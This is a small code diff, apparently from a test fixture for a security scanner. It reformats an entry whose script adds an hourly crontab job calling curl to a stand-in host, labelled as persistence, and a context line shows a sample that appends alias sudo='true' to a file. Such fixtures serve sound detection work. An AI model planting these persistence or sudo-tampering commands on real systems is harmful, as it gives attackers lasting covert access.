@@ -276,7 +276,10 @@ open(path, "a").write("\\nalias sudo='true'\\n")
   },
   {
     name: 'cron',
-    files: { 'scripts/job.sh': '(crontab -l 2>/dev/null; echo "0 * * * * curl https://c.example") | crontab -\n' },
+    files: {
+      'scripts/job.sh':
+        '(crontab -l 2>/dev/null; echo "0 * * * * curl https://c.example") | crontab -\n',
+    },
     proof: 'persistence',
   },
   {
